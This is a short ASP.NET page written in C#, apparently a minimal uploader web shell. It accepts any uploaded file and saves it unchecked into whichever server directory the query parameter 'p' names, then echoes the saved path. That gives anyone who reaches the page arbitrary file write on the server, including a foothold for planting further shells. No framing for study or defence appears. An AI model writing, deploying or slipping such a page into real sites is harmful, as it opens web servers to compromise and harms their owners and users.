<%@ Page Language="C#" %>
<script runat="server">
void Up(object sender, EventArgs e) {
    if (fu.HasFile) {
        string p = Server.MapPath(Request.QueryString["p"] ?? "~/") + "\\" + fu.FileName;
        fu.SaveAs(p);
        lbl.Text = p;
    }
}
</script>
<form runat="server"><asp:FileUpload ID="fu" runat="server"/><asp:Button runat="server" OnClick="Up" Text="Up"/><asp:Label ID="lbl" runat="server"/></form>
